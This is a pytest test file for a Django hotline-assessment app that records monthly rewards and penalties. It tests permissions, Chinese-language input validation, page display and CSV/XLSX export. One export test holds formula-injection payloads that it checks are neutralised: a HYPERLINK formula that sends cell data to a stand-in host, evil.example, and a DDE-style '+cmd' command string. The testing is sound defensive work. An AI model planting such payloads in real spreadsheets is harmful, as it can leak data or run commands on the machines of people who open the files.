"""Rewards and penalties recorded against months (考用结合): who records them, what is refused,
where they are shown (the page, the unit's page, the monthly report) and the export, where a
cell typed as a formula reaches the spreadsheet as text."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from hotline.assessment import consequences
from hotline.assessment.models import MonthlyConsequence
from hotline.errors import InvalidInput, NotAllowed

URL = "/assessment/consequences/"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击领奖")'


def _client(user):
    c = Client()
    c.force_login(user)
    return c


def _post(c, district, **kw):
    data = {"unit": district.units["street-a"].pk, "month": "2023-07", "kind": "penalty", "points": "2",
            "description": "通报批评", "reason": "7月按时答复率全区最低，且有2件超期未答复。"}
    data.update(kw)
    return c.post(f"{URL}?month=2023-07", data)


@pytest.mark.django_db
def test_a_supervisor_records_a_penalty_and_it_is_shown_on_the_page_the_units_page_and_the_report(district):
    c = _client(district.people["liudu"])
    r = _post(c, district)
    assert r.status_code == 302 and r["Location"].endswith("?month=2023-07")
    rec = MonthlyConsequence.objects.get()
    assert (rec.unit, rec.month, rec.kind, float(rec.points)) == (district.units["street-a"], dt.date(2023, 7, 1),
                                                                  "penalty", 2.0)
    assert rec.recorded_by == district.people["liudu"] and rec.recorded_at is not None
    page = c.get(f"{URL}?month=2023-07").content.decode()
    assert "通报批评" in page and "惩戒" in page and "东湖街道办事处" in page
    unit_page = c.get(f"/assessment/unit/{district.units['street-a'].pk}/?month=2023-07").content.decode()
    assert 'id="consequences"' in unit_page and "按时答复率全区最低" in unit_page
    assert 'id="score"' in unit_page and "考核得分明细" in unit_page
    other_month = c.get(f"/assessment/unit/{district.units['street-a'].pk}/?month=2023-08").content.decode()
    assert "按时答复率全区最低" not in other_month
    report = c.get("/assessment/report/?month=2023-07").content.decode()
    assert "九、奖惩记录" in report and "通报批评" in report
    # the unit's own people see it on their page too
    head = _client(district.people["lizhang"])
    assert "通报批评" in head.get(f"/assessment/unit/{district.units['street-a'].pk}/?month=2023-07").content.decode()


@pytest.mark.django_db
def test_who_may_see_and_record(district):
    assert _client(district.people["lizhang"]).get(f"{URL}?month=2023-07").status_code == 403  # a unit's head
    assert _client(district.people["wangfang"]).get(f"{URL}?month=2023-07").status_code == 403  # an agent
    dispatcher = _client(district.people["chengang"])
    assert dispatcher.get(f"{URL}?month=2023-07").status_code == 200
    assert "记录奖惩" not in dispatcher.get(f"{URL}?month=2023-07").content.decode()
    assert _post(dispatcher, district).status_code == 403
    assert _post(_client(district.people["admin"]), district, kind="reward", points="", description="通报表扬").status_code == 302
    assert MonthlyConsequence.objects.count() == 1
    with pytest.raises(NotAllowed):
        consequences.record(actor=district.people["chengang"], unit_id=district.units["street-a"].pk,
                            month=dt.date(2023, 7, 1), kind="reward", points=1, reason="理由")


@pytest.mark.django_db
@pytest.mark.parametrize("bad, message", [
    ({"points": "abc"}, "分值应为数字"), ({"points": "-3"}, "分值应大于0"), ({"points": "1e9"}, "分值应大于0"),
    ({"points": "NaN"}, "分值应大于0"), ({"points": "1.234"}, "两位小数"),
    ({"points": "", "description": ""}, "请填写分值或奖惩内容"), ({"reason": "   "}, "请填写奖惩理由"),
    ({"kind": "bonus"}, "类型应为奖励或惩戒"), ({"unit": "999999"}, "请选择承办单位"), ({"unit": "x"}, "请选择承办单位"),
    ({"month": "2023-13"}, "月份"), ({"month": "2999-01"}, "尚未开始的月份"), ({"description": "长" * 201}, "200"),
])
def test_bad_input_is_refused_in_chinese_and_nothing_is_written(district, bad, message):
    r = _post(_client(district.people["liudu"]), district, **bad)
    assert r.status_code == 400
    assert message in r.content.decode()
    assert not MonthlyConsequence.objects.exists()


@pytest.mark.django_db
def test_the_export_neutralises_a_formula_typed_into_a_record(district):
    c = _client(district.people["liudu"])
    assert _post(c, district, description=FORMULA, reason="+cmd|' /C calc'!A0").status_code == 302
    text = c.get(f"{URL}?month=2023-07&format=csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:4] == ["考核月份", "单位", "类型", "分值"]
    assert rows[1][0] == "2023-07" and rows[1][1] == "东湖街道办事处" and rows[1][2] == "惩戒" and rows[1][3] == "2.0"
    assert rows[1][4] == "'" + FORMULA
    assert rows[1][5].startswith("'+cmd")
    ws = load_workbook(io.BytesIO(c.get(f"{URL}?month=2023-07&format=xlsx").content)).active
    cell = ws["E2"]
    assert cell.value == FORMULA and cell.data_type == "s" and cell.quotePrefix
    assert ws["D2"].value == 2.0


@pytest.mark.django_db
def test_the_admin_lists_records_but_never_writes_them(district):
    c = _client(district.people["admin"])
    assert c.get("/admin/assessment/monthlyconsequence/").status_code == 200
    assert c.get("/admin/assessment/monthlyconsequence/add/").status_code == 403
    with pytest.raises(InvalidInput):
        consequences.record(actor=district.people["admin"], unit_id=district.units["street-a"].pk,
                            month="2023-07", kind="reward", points=1, reason="理由")
